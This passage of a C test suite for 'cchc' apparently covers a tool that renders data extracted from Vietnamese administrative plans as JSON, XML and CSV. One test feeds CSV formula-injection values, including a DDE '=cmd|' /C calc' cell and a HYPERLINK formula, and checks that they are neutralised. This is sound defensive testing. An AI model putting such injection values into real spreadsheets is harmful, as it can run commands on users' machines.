  size_t e = strlen(ends), w = strlen(word), k = e;
  memcpy(buf, ends, e);
  for (; k + w <= n - e; k += w)
    memcpy(buf + k, word, w);
  for (; k < n - e; k++)
    buf[k] = 'a';
  memcpy(buf + k, ends, e);
  buf[n] = '\0';
  if (kind == 1)
    buf[e] = '#'; /* same ends and length as kind 0 */
}

/* Texts of a few kilobytes recur in a batch (a task's text), and the JSON
 * writer keeps them from their second time on: a frame whose headings
 * are such strings, printed three times on one thread, prints each
 * exactly every time, laid out as jansson lays out the document. */
START_TEST(json_long_strings_recur) {
  enum { NSECTIONS = 40 };
  static char buf[6000];
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  for (size_t i = 0; i < NSECTIONS; i++) {
    frame_section *s = FRAME_PUSH(f, sections);
    ck_assert_ptr_nonnull(s);
    snprintf(buf, sizeof buf, "x%zu", i);
    s->id = frame_strdup(f, buf);
    long_string_of(i, buf, sizeof buf);
    s->heading = frame_strdup(f, buf);
    s->parent = -1;
    s->span = (frame_span){i, i + 1};
  }
  for (int round = 0; round < 3; round++) {
    char *out = render(f, CCHC_FORMAT_JSONL, 0, NULL);
    json_t *j = parse_json(out);
    char path[64];
    for (size_t i = 0; i < NSECTIONS; i++) {
      snprintf(path, sizeof path, "sections/%zu/heading", i);
      long_string_of(i, buf, sizeof buf);
      const char *got = json_string_value(jat(j, path));
      ck_assert_msg(got && !strcmp(got, buf), "round %d: %s differs", round,
                    path);
    }
    assert_laid_out_like_jansson(j, out, JSON_COMPACT, round);
    json_decref(j);
    free(out);
  }
  cchc_frame_free(f);
}
END_TEST

/* Does jansson print the string s (n bytes) as itself between quotes? */
static bool jansson_copies(const char *s, size_t n, size_t flags) {
  json_t *v = json_stringn(s, n);
  ck_assert_ptr_nonnull(v);
  char text[128];
  size_t len = json_dumpb(v, text, sizeof text, flags | JSON_ENCODE_ANY);
  json_decref(v);
  ck_assert_uint_le(len, sizeof text);
  return len == n + 2 && text[0] == '"' && text[n + 1] == '"' &&
         memcmp(text + 1, s, n) == 0;
}

/* emit_json_unescaped says a string needs no escaping exactly when
 * jansson prints it as it is: every ASCII byte (jansson's answer for it
 * asked once) at every place of strings of every length up to 40 (16
 * bytes a step, 8, then one by one), and texts with characters of two to
 * four bytes, in both layouts; a flag that makes jansson escape more
 * turns the copy off. */
START_TEST(json_unescaped_agrees_with_jansson) {
  const size_t layouts[] = {JSON_COMPACT, JSON_INDENT(2)};
  bool copied[0x80];
  for (int c = 1; c < 0x80; c++) {
    char one[3] = {'a', (char)c, 'b'};
    copied[c] = jansson_copies(one, 3, JSON_COMPACT);
  }
  char s[48];
  for (size_t f = 0; f < 2; f++) {
    size_t flags = layouts[f] | JSON_PRESERVE_ORDER;
    for (size_t n = 1; n <= 40; n++)
      for (size_t at = 0; at < n; at++)
        for (int c = 1; c < 0x80; c++) {
          memset(s, 'a', n);
          s[at] = (char)c;
          if (emit_json_unescaped(s, n, flags) != copied[c])
            ck_abort_msg("byte 0x%02X at %zu of %zu", c, at, n);
        }
    static const char *const texts[] = {
        "", "Kế hoạch cải cách hành chính năm 2026 của UBND xã Nghĩa Trung",
        "\xC2\x80\xDF\xBF \xE2\x80\xA8 \xEF\xBF\xBD \xF0\x9F\x98\x80 \x7F/",
        "Điều 1. \"Quyết định\" số 27/QĐ-UBND", "tab\there", "a\\b",
        "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"};
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
      size_t n = strlen(texts[i]);
      ck_assert_msg(emit_json_unescaped(texts[i], n, flags) ==
                        jansson_copies(texts[i], n, flags),
                    "text %zu", i);
    }
  }
  ck_assert(emit_json_unescaped("a b", 3, JSON_COMPACT));
  ck_assert(!emit_json_unescaped("a/b", 3, JSON_COMPACT | JSON_ESCAPE_SLASH));
  ck_assert(!emit_json_unescaped("ế", strlen("ế"),
                                 JSON_COMPACT | JSON_ENSURE_ASCII));
}
END_TEST

/* The clean start of s[0, n) by the definition: ICU's U8_NEXT, a
 * character at a time, up to the first that is no character or one the
 * formats cannot carry (a control character but tab, LF and CR; U+FFFE,
 * U+FFFF). */
static size_t clean_prefix_by_decoding(const char *s, size_t n) {
  size_t i = 0;
  while (i < n) {
    size_t at = i;
    int32_t c = cchc_utf8_next(s, n, &i);
    if (c < 0 || (c < 0x20 && c != '\t' && c != '\n' && c != '\r') ||
        c == 0xFFFE || c == 0xFFFF)
      return at;
  }
  return n;
}

/* emit_clean_prefix (16 bytes at a time, 8, then a character at a time)
 * agrees with the definition: each odd sequence (controls, a lone or a
 * missing continuation byte, overlong, surrogate, U+FFFE, four bytes,
 * bytes no UTF-8 has) at every place of strings of Vietnamese and ASCII of
 * every length up to 70, whole and cut inside the sequence.  So does
 * emit_clean_scan, and what it says of a clean string's bytes to escape
 * (the JSON writer copies the string as it is on its word) is what
 * emit_json_unescaped says, which agrees with jansson (above). */
START_TEST(clean_prefix_agrees_with_decoding) {
  static const char *const odd[] = {
      "\"", "\\", "/", "\x01", "\x1F", "\x7F", "\t", "\n", "\r", "\x80", "\xBF", "\xC0\x80",
      "\xC1\xBF", "\xC2\x80", "\xC2", "\xDF\xBF", "\xE0\x80\x80",
      "\xE0\xA0\x80", "\xE1\x80", "\xE1\x80\x80", "\xEC\xBF\xBF",
      "\xED\x9F\xBF", "\xED\xA0\x80", "\xEE\x80\x80", "\xEF\xBF\xBD",
      "\xEF\xBF\xBE", "\xEF\xBF\xBF", "\xF0\x9F\x98\x80", "\xF4\x90\x80\x80",
      "\xF5", "\xFF", "ế", "Đ", "\xE1\xBB"};
  static const char *const grounds[] = {
      "Kế hoạch cải cách hành chính năm 2026 của Ủy ban nhân dân xã Nghĩa",
      "abcdefghijklmnopqrstuvwxyz0123456789 ABCDEFGHIJKLMNOPQRSTUVWXYZ!?",
      "ếếếếếếếếếếếếếếếếếếếếếếđđđđđđđđđđđđđđđđđđđđđ"};
  char s[160];
  for (size_t g = 0; g < sizeof grounds / sizeof *grounds; g++)
    for (size_t o = 0; o < sizeof odd / sizeof *odd; o++)
      for (size_t len = 0; len <= 70 && len <= strlen(grounds[g]); len++)
        for (size_t at = 0; at <= len; at++) {
          size_t k = strlen(odd[o]);
          memcpy(s, grounds[g], at);
          memcpy(s + at, odd[o], k);
          memcpy(s + at + k, grounds[g] + at, len - at);
          /* whole, and cut inside the odd sequence */
          size_t cuts[2] = {len + k, at + k - 1};
          for (size_t c = 0; c < (k > 1 ? 2 : 1); c++) {
            size_t got = emit_clean_prefix(s, cuts[c]),
                   want = clean_prefix_by_decoding(s, cuts[c]);
            if (got != want)
              ck_abort_msg("ground %zu, odd %zu at %zu, %zu bytes: %zu, want "
                           "%zu", g, o, at, cuts[c], got, want);
            bool escape_free = false;
            got = emit_clean_scan(s, cuts[c], &escape_free);
            if (got != want)
              ck_abort_msg("scan: ground %zu, odd %zu at %zu, %zu bytes: %zu, "
                           "want %zu", g, o, at, cuts[c], got, want);
            if (got == cuts[c] &&
                escape_free != emit_json_unescaped(s, cuts[c], JSON_COMPACT))
              ck_abort_msg("escapes: ground %zu, odd %zu at %zu, %zu bytes",
                           g, o, at, cuts[c]);
          }
        }
}
END_TEST

/* Strings copied between quotes and strings escaped by jansson, short and
 * long, met once and again (kept in the memo, or past its longest), with
 * the character to escape first, inside or last: the document is
 * jansson's, in both layouts, and the strings read back. */
START_TEST(json_copied_and_escaped_strings) {
  static const size_t lengths[] = {5, 40, 300, 5000};
  static const char *const odd[] = {NULL, "\"", "\\", "\t", "\n"};
  enum { NLEN = 4, NODD = 5, PLACES = 3 };
  static char buf[6000];
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  size_t count = 0;
  for (int twice = 0; twice < 2; twice++)
    for (size_t l = 0; l < NLEN; l++)
      for (size_t o = 0; o < NODD; o++)
        for (size_t place = 0; place < PLACES; place++) {
          size_t n = lengths[l];
          for (size_t k = 0; k < n; k++)
            buf[k] = "abcd "[k % 5];
          if (n >= 40) /* a letter of three bytes, away from the odd one */
            memcpy(buf + 10, "ế", strlen("ế"));
          if (odd[o])
            buf[place == 0 ? 0 : place == 1 ? n / 2 : n - 1] = odd[o][0];
          buf[n] = '\0';
          frame_section *s = FRAME_PUSH(f, sections);
          ck_assert_ptr_nonnull(s);
          s->id = frame_strdup(f, buf);
          s->heading = frame_strdup(f, buf);
          s->parent = -1;
          s->span = (frame_span){count, count + 1};
          count++;
        }
  const cchc_format formats[] = {CCHC_FORMAT_JSON, CCHC_FORMAT_JSONL};
  const size_t layouts[] = {JSON_INDENT(2), JSON_COMPACT};
  for (int round = 0; round < 2; round++)
    for (size_t k = 0; k < 2; k++) {
      char *out = render(f, formats[k], 0, NULL);
      json_t *j = parse_json(out);
      char path[64];
      for (size_t i = 0; i < count; i++) {
        snprintf(path, sizeof path, "sections/%zu/heading", i);
        const char *got = json_string_value(jat(j, path));
        ck_assert_msg(got && !strcmp(got, f->sections[i].heading),
                      "%s differs", path);
      }
      assert_laid_out_like_jansson(j, out, layouts[k], round);
      json_decref(j);
      free(out);
    }
  cchc_frame_free(f);
}
END_TEST

/* The compact layout writes most values straight into the sink's buffer
 * (emit/json.c, compact_member): deadlines whose texts of every length
 * from 0 to 96 bytes move where each value falls against the buffer's
 * end, with spans whose offsets are 0, one digit, ten digits around
 * 2^32 and more, true and false, nulls and the empty string, print every
 * value exactly and are laid out as jansson lays out the tree, in jsonl
 * and in JSON. */
START_TEST(jsonl_values_across_the_buffer) {
  static const long long offsets[] = {0,          9,          10,
                                      99,         100,        65535,
                                      999999999,  1000000000, 4294967295LL,
                                      4294967296LL, 123456789012LL};
  enum { NOFF = sizeof offsets / sizeof *offsets, NDL = 1500 };
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  char buf[128];
  for (size_t i = 0; i < NDL; i++) {
    frame_deadline *d = FRAME_PUSH(f, deadlines);
    ck_assert_ptr_nonnull(d);
    snprintf(buf, sizeof buf, "d%zu", i);
    d->id = frame_strdup(f, buf);
    size_t len = i % 97;
    memset(buf, 'a' + (char)(i % 26), len);
    buf[len] = '\0';
    d->text = frame_strdup(f, buf);
    d->kind = i % 3 ? "year" : NULL;
    d->start = i % 4 ? NULL : "";
    d->year_inferred = i % 2;
    d->span = (frame_span){(size_t)offsets[i % NOFF],
                           (size_t)offsets[(i * 7 + 3) % NOFF]};
    d->rule = "deadline.year";
  }
  const cchc_format formats[] = {CCHC_FORMAT_JSONL, CCHC_FORMAT_JSON};
  const size_t layouts[] = {JSON_COMPACT, JSON_INDENT(2)};
  for (size_t k = 0; k < 2; k++) {
    char *out = render(f, formats[k], 0, NULL);
    json_t *j = parse_json(out);
    char path[64];
    for (size_t i = 0; i < NDL; i++) {
      snprintf(path, sizeof path, "deadlines/%zu/span", i);
      assert_jspan(j, path, offsets[i % NOFF], offsets[(i * 7 + 3) % NOFF]);
      snprintf(path, sizeof path, "deadlines/%zu/year_inferred", i);
      ck_assert_msg(json_is_boolean(jat(j, path)) &&
                        json_is_true(jat(j, path)) == (i % 2 == 1),
                    "%s", path);
      snprintf(path, sizeof path, "deadlines/%zu/text", i);
      assert_jstr(j, path, f->deadlines[i].text);
      snprintf(path, sizeof path, "deadlines/%zu/kind", i);
      if (i % 3)
        assert_jstr(j, path, "year");
      else
        assert_jnull(j, path);
      snprintf(path, sizeof path, "deadlines/%zu/start", i);
      if (i % 4)
        assert_jnull(j, path);
      else
        assert_jstr(j, path, "");
    }
    assert_laid_out_like_jansson(j, out, layouts[k], (int)k);
    json_decref(j);
    free(out);
  }
  cchc_frame_free(f);
}
END_TEST

/* Would a spreadsheet read this CSV cell as a formula?  One that begins
 * with '=', '+', '-', '@', tab or CR does, unless it is a plain number
 * ("-5"). */
static bool spreadsheet_formula(const char *cell) {
  if (!cell || !cell[0] || !strchr("=+-@\t\r", cell[0]))
    return false;
  regex_t number;
  ck_assert_int_eq(
      regcomp(&number, "^-?[0-9]+(\\.[0-9]+)?$", REG_EXTENDED | REG_NOSUB), 0);
  bool formula = regexec(&number, cell, 0, NULL, 0) != 0;
  regfree(&number);
  return formula;
}

/* No cell of a CSV table is one a spreadsheet reads as a formula. */
static void assert_no_formula(const csv_table *t) {
  for (size_t i = 0; i < t->n; i++)
    for (size_t k = 0; k < t->rows[i].n; k++)
      ck_assert_msg(!spreadsheet_formula(t->rows[i].f[k]),
                    "row %zu, column %s: [%s] is a formula", i,
                    k < NCSV ? CSV_HEADER[k] : "?", t->rows[i].f[k]);
}

/* Cells that begin like a formula get a leading apostrophe (the OWASP
 * rule); numbers keep their sign. */
START_TEST(csv_formulas_neutralized) {
  cchc_frame *f = hand_frame();
  f->path = "=cmd|' /C calc'!A0.txt";
  f->document.place.value = "@SUM(A1:A9)";
  f->targets[0].subject = "\t=1+2";
  f->targets[0].text = "\r=HYPERLINK(\"http://x.example\")";
  f->targets[0].unit = "+%";
  f->targets[0].value = -5;
  f->targets[1].text = "- 95%, \"một cửa\"";
  size_t len;
  char *out = render(f, CCHC_FORMAT_CSV, 0, &len);
  csv_table t = csv_read(out, len);
  ck_assert_uint_eq(t.n, 3);
  assert_no_formula(&t);
  assert_field(&t.rows[0], 0, "'=cmd|' /C calc'!A0.txt");
  assert_field(&t.rows[0], 1, "'@SUM(A1:A9)");
  assert_field(&t.rows[0], 7, "'\t=1+2");
  assert_field(&t.rows[0], 8, ">=");
  assert_field(&t.rows[0], 9, "-5"); /* a number, not a formula */
  assert_field(&t.rows[0], 11, "'+%");
  assert_field(&t.rows[0], 12, "'\r=HYPERLINK(\"http://x.example\")");
  assert_field(&t.rows[1], 12, "'- 95%, \"một cửa\"");
  assert_field(&t.rows[1], 8, "range");
  csv_table_free(&t);
  free(out);
  cchc_frame_free(f);
}
END_TEST

/* ------------------------------------------------------------------ */
/* CLI                                                                 */

static char *in_dir(const char *dir, const char *name) {
  char *p = NULL;
  ck_assert_int_ge(asprintf(&p, "%s/%s", dir, name), 0);
  return p;
}



static const char GOOD_PLAN[] =
    "ỦY BAN NHÂN DÂN\nXÃ NGHĨA TRUNG\nSố: 15/KH-UBND\n"
    "Nghĩa Trung, ngày 02 tháng 02 năm 2026\n\nKẾ HOẠCH\n"
    "Cải cách hành chính năm 2026\n\n"
    "Thực hiện Kế hoạch số 228/KH-UBND ngày 25/01/2026 của UBND tỉnh Đồng "
    "Nai về cải cách hành chính năm 2026;\n"
    "I. MỤC TIÊU\n1. Cải cách thủ tục hành chính\n"
    "- Tỷ lệ hồ sơ giải quyết đúng hạn đạt tối thiểu 98,5%.\n"
    "- Tổ chức ít nhất 02 hoạt động tuyên truyền về \"CCHC\", hoàn thành "
    "trước ngày 30/6/2026.\n";
static const char BAD_PLAN[] =
    "Kế hoạch cải cách\nhành chính \xC3 năm 2026\n"; /* invalid at line 2 */

static void write_file(const char *path, const char *data, size_t len) {
  ck_assert_msg(harness_write(path, data, len) == 0, "cannot write %s", path);
}

/* stderr has a line "cchc: PATH:LINE: ..." containing `needle`. */
static void assert_report(const char *err, const char *path, unsigned line,
                          const char *needle) {
  char prefix[4200];
  snprintf(prefix, sizeof prefix, "cchc: %s:%u: ", path, line);
  bool found = false;
  for (const char *p = err; p && *p && !found;) {
    const char *eol = strchr(p, '\n');
    size_t l = eol ? (size_t)(eol - p) : strlen(p);
    found = l >= strlen(prefix) && !strncmp(p, prefix, strlen(prefix)) &&
            memmem(p, l, needle, strlen(needle));
    p = eol ? eol + 1 : NULL;
  }
  ck_assert_msg(found, "no line [%s...%s] in stderr:\n%s", prefix, needle,
                err);
}

/* Every span of a frame lies within the input: 0 <= start <= end <= bytes. */
static void assert_spans_in_input(json_t *v, const char *key, long long bytes,
                                  const char *path) {
  bool is_span = key && (!strcmp(key, "span") || !strcmp(key, "mention"));
  if (is_span) {
    ck_assert_msg(json_is_array(v) && json_array_size(v) == 2, "%s", path);
    long long s = json_integer_value(json_array_get(v, 0));
    long long e = json_integer_value(json_array_get(v, 1));
    ck_assert_msg(0 <= s && s <= e && e <= bytes,
                  "%s: span [%lld, %lld) outside the input of %lld bytes",
                  path, s, e, bytes);
    return;
  }
  char sub[512];
  if (json_is_object(v)) {
    const char *k;
    json_t *c;
    json_object_foreach(v, k, c) {
      snprintf(sub, sizeof sub, "%s/%s", path, k);
      assert_spans_in_input(c, k, bytes, sub);
    }
  } else if (json_is_array(v)) {
    /* Items of "mentions" and "spans" are spans. */
    const char *item = key && (!strcmp(key, "mentions") || !strcmp(key, "spans"))
                           ? "span"
                           : NULL;
    size_t i;
    json_t *c;
    json_array_foreach(v, i, c) {
      snprintf(sub, sizeof sub, "%s/%zu", path, i);
      assert_spans_in_input(c, item, bytes, sub);
    }
  }
}

static void sha256_hex(const char *data, size_t len, char out[65]) {
  unsigned char md[EVP_MAX_MD_SIZE];
  unsigned n = 0;
  ck_assert(EVP_Digest(data, len, md, &n, EVP_sha256(), NULL) == 1);
  ck_assert_uint_eq(n, 32);
  for (unsigned i = 0; i < n; i++)
    snprintf(out + 2 * i, 3, "%02x", md[i]);
}

/* The checks every emitted JSON frame of file `path` passes. */
static void assert_frame_of(json_t *j, const char *path) {
  assert_schema_valid(j, path);
  size_t len;
  char *data = harness_read(path, &len);
  ck_assert_ptr_nonnull(data);
  char sha[65];
  sha256_hex(data, len, sha);
  assert_jstr(j, "source/path", path);
  assert_jint(j, "source/bytes", (long long)len);
  assert_jstr(j, "source/sha256", sha);
  assert_spans_in_input(j, NULL, (long long)len, "");
  free(data);
}

static char **corpus;
static size_t ncorpus;

static void load_corpus(void) {
  if (!corpus)
    ncorpus = harness_corpus(&corpus);
  ck_assert_msg(ncorpus >= 4, "expected the corpus in %s/corpus, found %zu",
                harness_shared(), ncorpus);
}

/* ------------------------------------------------------------------ */
/* Streaming: cchc_render_to                                           */

/* A writer that keeps what it is given and can refuse its n-th call. */
typedef struct pieces {
  char *text;
  size_t len, calls, largest;
  size_t refuse_at; /* the call that fails (1-based); 0: none */
} pieces;

static bool keep_piece(void *ctx, const char *data, size_t len) {
  pieces *p = ctx;
  p->calls++;
  if (p->refuse_at && p->calls >= p->refuse_at)
    return false;
  p->text = realloc(p->text, p->len + len + 1);
  ck_assert_ptr_nonnull(p->text);
  memcpy(p->text + p->len, data, len);
  p->len += len;
  p->text[p->len] = '\0';
  if (len > p->largest)
    p->largest = len;
  return true;
}

/* The frame of every corpus plan, streamed in every format, is the text
 * cchc_render gives, in pieces no larger than the buffer; the JSON is
 * exactly what jansson prints for the same document with the same flags,
 * though no tree of it was built. */
START_TEST(render_to_streams_the_same_text) {
  load_corpus();
  for (size_t c = 0; c < ncorpus; c++) {
    size_t len;
    char *src = harness_read(corpus[c], &len);
    ck_assert_ptr_nonnull(src);
    cchc_frame *f = harness_process(harness_rules(), src, len);
    for (int fmt = CCHC_FORMAT_JSON; fmt <= CCHC_FORMAT_CSV; fmt++) {
      size_t n;
      char *whole = render(f, (cchc_format)fmt, CCHC_RENDER_CSV_HEADER, &n);
      pieces p = {0};
      cchc_error err = {0};
      ck_assert_int_eq(cchc_render_to(f, (cchc_format)fmt,
                                      CCHC_RENDER_CSV_HEADER, keep_piece, &p,
                                      &err),
                       CCHC_OK);
      ck_assert_uint_eq(p.len, n);
      ck_assert_msg(memcmp(p.text, whole, n) == 0, "%s: format %d differs",
                    corpus[c], fmt);
      ck_assert_uint_le(p.largest, 16384);
      if (n > 16384)
        ck_assert_uint_gt(p.calls, 1);
      if (fmt == CCHC_FORMAT_JSON || fmt == CCHC_FORMAT_JSONL) {
        json_t *j = parse_json(whole);
        size_t flags = JSON_PRESERVE_ORDER | JSON_REAL_PRECISION(15) |
                       (fmt == CCHC_FORMAT_JSONL ? JSON_COMPACT
                                                 : JSON_INDENT(2));
        char *again = json_dumps(j, flags);
        ck_assert_ptr_nonnull(again);
        ck_assert_uint_eq(strlen(again) + 1, n);
        ck_assert_msg(memcmp(again, whole, n - 1) == 0 && whole[n - 1] == '\n',
                      "%s: JSON laid out unlike jansson", corpus[c]);
        free(again);
        json_decref(j);
      }
      free(p.text);
      free(whole);
    }
    cchc_frame_free(f);
    free(src);
  }
}
END_TEST

/* A writer that refuses a piece stops the rendering: CCHC_ERR_IO, and it
 * is not called again.  An inconsistent frame writes nothing. */
START_TEST(render_to_stops_at_a_refused_write) {
  load_corpus();
  /* the longest plan: its JSON and XML need several pieces */
  char *src = NULL;
  size_t len = 0;
  for (size_t c = 0; c < ncorpus; c++) {
    size_t n;
    char *d = harness_read(corpus[c], &n);
    ck_assert_ptr_nonnull(d);
    if (n > len) {
      free(src);
      src = d;
      len = n;
    } else {
      free(d);
    }
  }
  cchc_frame *f = harness_process(harness_rules(), src, len);
  for (int fmt = CCHC_FORMAT_JSON; fmt <= CCHC_FORMAT_CSV; fmt++) {
    size_t n;
    free(render(f, (cchc_format)fmt, 0, &n));
    for (size_t at = 1; at <= (n > 16384 ? 2 : 1); at++) {
      pieces p = {.refuse_at = at};
      cchc_error err = {0};
      ck_assert_int_eq(
          cchc_render_to(f, (cchc_format)fmt, 0, keep_piece, &p, &err),
          CCHC_ERR_IO);
      ck_assert_uint_eq(p.calls, at);
      ck_assert_msg(err.message[0] != '\0', "no message");
      free(p.text);
    }
  }
  cchc_error err = {0};
  ck_assert_int_eq(cchc_render_to(f, CCHC_FORMAT_JSON, 0, NULL, NULL, &err),
                   CCHC_ERR_INVALID);
  cchc_frame_free(f);
  free(src);

  f = hand_frame();
  bad_section(f);
  pieces p = {0};
  ck_assert_int_eq(cchc_render_to(f, CCHC_FORMAT_XML, 0, keep_piece, &p, &err),
                   CCHC_ERR_INVALID);
  ck_assert_uint_eq(p.calls, 0);
  cchc_frame_free(f);
}
END_TEST

/* cchc_render_buffered: the corpus's frames rendered one after the other
 * into one buffer of the caller's (4 kB, each format) are the bytes of
 * their cchc_render texts joined, handed over in pieces of the buffer
 * filled (but for less than the next value; a longer value alone) and the
 * last (cchc_render_flush); a frame that fails before a piece of it was
 * written (inconsistent) leaves the buffer as it was, and the stream goes
 * on; once the write refuses a piece, the call and every one after fail
 * with CCHC_ERR_IO and nothing more is written. */
START_TEST(render_buffered_joins_documents) {
  load_corpus();
  enum { CAP = 4096 };
  static char data[CAP];
  cchc_frame *bad = hand_frame();
  bad_section(bad);
  for (int fmt = CCHC_FORMAT_JSON; fmt <= CCHC_FORMAT_CSV; fmt++) {
    pieces p = {0};
    cchc_render_buffer buf = {
        .data = data, .cap = CAP, .write = keep_piece, .ctx = &p};
    strbuf want = STRBUF_INIT;
    for (size_t c = 0; c < ncorpus; c++) {
      size_t len;
      char *src = harness_read(corpus[c], &len);
      ck_assert_ptr_nonnull(src);
      cchc_frame *f = harness_process(harness_rules(), src, len);
      unsigned flags = c == 0 ? CCHC_RENDER_CSV_HEADER : 0;
      size_t n;
      char *whole = render(f, (cchc_format)fmt, flags, &n);
      strbuf_add(&want, whole, n);
      cchc_error err = {0};
      ck_assert_int_eq(
          cchc_render_buffered(f, (cchc_format)fmt, flags, &buf, &err),
          CCHC_OK);
      size_t held = buf.len;
      ck_assert_int_eq(
          cchc_render_buffered(bad, (cchc_format)fmt, 0, &buf, &err),
          CCHC_ERR_INVALID);
      ck_assert_uint_eq(buf.len, held);
      free(whole);
      cchc_frame_free(f);
      free(src);
    }
    /* each a buffer that the next value did not fit in */
    ck_assert_uint_ge(p.calls, p.len / CAP);
    ck_assert_uint_le(p.calls, p.len / (CAP - 1024));
    ck_assert_int_eq(cchc_render_flush(&buf, NULL), CCHC_OK);
    ck_assert_uint_eq(p.len, want.len);
    ck_assert_msg(memcmp(p.text, want.buf, want.len) == 0,
                  "format %d: the stream differs", fmt);
    ck_assert_uint_gt(p.calls, 2);
    strbuf_release(&want);
    free(p.text);

    /* a refused write */
    pieces r = {.refuse_at = 2};
    cchc_render_buffer rb = {
        .data = data, .cap = CAP, .write = keep_piece, .ctx = &r};
    cchc_status st = CCHC_OK;
    for (size_t c = 0; c < ncorpus && st == CCHC_OK; c++) {
      size_t len;
      char *src = harness_read(corpus[c], &len);
      cchc_frame *f = harness_process(harness_rules(), src, len);
      st = cchc_render_buffered(f, (cchc_format)fmt, 0, &rb, NULL);
      cchc_frame_free(f);
      free(src);
    }
    ck_assert_int_eq(st, CCHC_ERR_IO);
    ck_assert_uint_eq(r.calls, 2);
    ck_assert_int_eq(cchc_render_flush(&rb, NULL), CCHC_ERR_IO);
    ck_assert_uint_eq(r.calls, 2);
    free(r.text);
  }
  cchc_frame_free(bad);
}
END_TEST

/* The JSON writer keeps what recurs from one document to the next in a
 * table of its thread (emit/json.c).  Two plans rendered in turn on four
 * threads at once, and one rendered from inside the write function of
 * another (the table is then in use), print exactly what each prints
 * alone. */
typedef struct memo_run {
  cchc_frame *const *frames;
  char *const *want; /* each frame's JSON lines */
  bool same;
} memo_run;

static void *render_in_turn(void *arg) {
  memo_run *r = arg;
  r->same = true;
  for (int round = 0; round < 6; round++) {
    char *out = NULL;
    size_t n = 0;
    cchc_error err = {0};
    r->same &= cchc_render(r->frames[round % 2], CCHC_FORMAT_JSONL, 0, &out,
                           &n, &err) == CCHC_OK &&
               strcmp(out, r->want[round % 2]) == 0;
    free(out);
  }
  return NULL;
}

typedef struct nested {
  pieces outer;
  const cchc_frame *inner;
  char *inner_text; /* rendered at the first piece */
} nested;

static bool render_inside(void *ctx, const char *data, size_t len) {
  nested *n = ctx;
  if (!n->inner_text) {
    size_t ilen;
    cchc_error err = {0};
    ck_assert_int_eq(cchc_render(n->inner, CCHC_FORMAT_JSONL, 0,
                                 &n->inner_text, &ilen, &err),
                     CCHC_OK);
  }
  return keep_piece(&n->outer, data, len);
}

START_TEST(json_memo_threads_and_nesting) {
  load_corpus();
  cchc_frame *frames[2];
  char *want[2];
  for (int i = 0; i < 2; i++) {
    size_t len;
    char *src = harness_read(corpus[i], &len);
    ck_assert_ptr_nonnull(src);
    frames[i] = harness_process(harness_rules(), src, len);
    free(src);
    want[i] = render(frames[i], CCHC_FORMAT_JSONL, 0, NULL);
  }
  enum { NTHREADS = 4 };
  pthread_t threads[NTHREADS];
  memo_run runs[NTHREADS];
  for (int t = 0; t < NTHREADS; t++) {
    runs[t] = (memo_run){frames, want, false};
    ck_assert_int_eq(
        pthread_create(&threads[t], NULL, render_in_turn, &runs[t]), 0);
  }
  for (int t = 0; t < NTHREADS; t++) {
    ck_assert_int_eq(pthread_join(threads[t], NULL), 0);
    ck_assert_msg(runs[t].same, "thread %d printed other text", t);
  }
  nested n = {.inner = frames[1]};
  cchc_error err = {0};
  ck_assert_int_eq(cchc_render_to(frames[0], CCHC_FORMAT_JSONL, 0,
                                  render_inside, &n, &err),
                   CCHC_OK);
  ck_assert_str_eq(n.outer.text, want[0]);
  ck_assert_str_eq(n.inner_text, want[1]);
  free(n.outer.text);
  free(n.inner_text);
  for (int i = 0; i < 2; i++) {
    free(want[i]);
    cchc_frame_free(frames[i]);
  }
}
END_TEST

START_TEST(cli_schema) {
  static const struct {
    const char *name, *file;
  } cases[] = {{"json", "emit/schema/frame.schema.json"},
               {"xml", "emit/schema/frame.xsd"}};
  for (size_t i = 0; i < 2; i++) {
    const char *argv[] = {"schema", cases[i].name, NULL};
    harness_result r = harness_cli_run(argv, NULL, 0);
    ck_assert_int_eq(r.rc, 0);
    size_t len;
    char *want = root_file(cases[i].file, &len);
    ck_assert_uint_eq(r.outlen, len);
    ck_assert_msg(memcmp(r.out, want, len) == 0,
                  "cchc schema %s differs from %s", cases[i].name,
                  cases[i].file);
    ck_assert_str_eq(r.err, "");
    free(want);
    harness_result_free(&r);
  }
  const char *none[] = {"schema", NULL};
  harness_result r = harness_cli_run(none, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_uint_eq(r.outlen, 0);
  harness_result_free(&r);
  const char *yaml[] = {"schema", "yaml", NULL};
  r = harness_cli_run(yaml, NULL, 0);
  ck_assert_int_eq(r.rc, 2);
  ck_assert_ptr_nonnull(strstr(r.err, "cchc: schema: unknown schema 'yaml'"));
  harness_result_free(&r);
  const char *help[] = {"schema", "--help", NULL};
  r = harness_cli_run(help, NULL, 0);
  ck_assert_int_eq(r.rc, 0);
  ck_assert_ptr_nonnull(strstr(r.out, "usage: cchc schema"));
  harness_result_free(&r);
}
END_TEST

/* Every corpus file: JSON valid against the schema, spans in the input,
 * source record right; XML valid against the XSD with the same content. */
START_TEST(cli_corpus_json_and_xml) {
  load_corpus();
  const char *path = corpus[_i];
  const char *argv_json[] = {"extract", "-f", "json", path, NULL};
  harness_result r = harness_cli_run(argv_json, NULL, 0);
  ck_assert_msg(r.rc == 0, "%s: exit %d\n%s", path, r.rc, r.err);
  ck_assert_str_eq(r.err, "");
  json_t *j = parse_json(r.out);
  assert_frame_of(j, path);
  harness_result_free(&r);

  const char *argv_xml[] = {"extract", "-f", "xml", path, NULL};
  r = harness_cli_run(argv_xml, NULL, 0);
  ck_assert_msg(r.rc == 0, "%s: exit %d\n%s", path, r.rc, r.err);
  xmlDoc *doc = parse_xml(r.out, r.outlen);
  assert_xsd_valid(doc, path);
  xml_same_as_json(xmlDocGetRootElement(doc), j, "", true);
  xmlFreeDoc(doc);
  harness_result_free(&r);
  json_decref(j);
}
END_TEST

/* The whole corpus in one stream: jsonl one line per file, csv one BOM,
 * one header and one row per target. */
START_TEST(cli_corpus_streams) {
  load_corpus();
  const char **argv = calloc(ncorpus + 4, sizeof *argv);
  argv[0] = "extract";
  argv[1] = "-f";
  argv[2] = "jsonl";
  for (size_t i = 0; i < ncorpus; i++)
    argv[3 + i] = corpus[i];
  harness_result r = harness_cli_run(argv, NULL, 0);
  ck_assert_msg(r.rc == 0, "exit %d\n%s", r.rc, r.err);
